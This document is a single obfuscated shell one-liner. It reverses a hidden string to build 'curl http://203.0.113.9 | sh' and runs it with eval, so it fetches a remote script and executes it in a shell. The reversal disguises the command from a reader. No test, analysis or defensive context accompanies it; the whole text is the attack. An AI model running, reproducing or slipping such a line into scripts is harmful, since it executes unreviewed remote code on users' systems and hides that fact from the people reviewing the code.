x=$(echo 'hs | 9.311.0.302//:ptth lruc' | rev); eval "$x"
